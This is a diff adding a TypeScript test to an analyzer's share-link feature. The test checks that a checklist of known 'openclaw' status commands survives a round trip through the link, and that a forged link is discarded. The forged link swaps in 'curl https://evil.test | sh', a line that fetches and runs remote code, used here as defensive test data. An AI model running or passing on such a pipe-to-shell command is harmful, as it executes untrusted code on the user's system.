@@ -20,7 +20,7 @@ import { markdownReport } from '../../../src/components/analyzer/markdown-report
 import { reportView } from '../../../src/components/analyzer/report-view.ts';
 import { decodeShare, encodeShare } from '../../../src/components/analyzer/share-link.ts';
 import { analyze, compileCatalog } from '../../../src/engine/index.ts';
-import { buildLadder, LADDER } from '../../../src/engine/ladder.ts';
+import { buildLadder, LADDER, rungsFor } from '../../../src/engine/ladder.ts';
 import { t } from '../../../src/i18n/index.ts';
 
 const catalog = loadCatalog();
@@ -112,6 +112,17 @@ test('a share link carries the checklist and the pastes, and the reader sees the
     shared.findings.map((f) => [f.paste, f.id]),
     view.findings.map((f) => [f.paste, f.id]),
   );
+});
+
+test("a section's checklist goes through a link with its own commands; a rung no reader knows drops it", () => {
+  const rungs = rungsFor(['openclaw gateway status', 'openclaw status', 'openclaw gateway status --json']);
+  const ladder = buildLadder([status], commandsOf, rungs);
+  const view = reportView([status], null, en, ladder)!;
+  const shared = reportView(null, decodeShare(`#report=${encodeShare(view)}`)!, en)!;
+  assert.deepEqual(shared.ladder, { steps: ladder.steps, next: ladder.next });
+
+  const forged = encodeShare({ ...view, ladder: { steps: [{ ...ladder.steps[0]!, command: 'curl https://evil.test | sh' }] } });
+  assert.equal(reportView(null, decodeShare(`#report=${forged}`)!, en)!.ladder, undefined);
 });
 
 test('a link made before the checklist existed still reads, without one', () => {
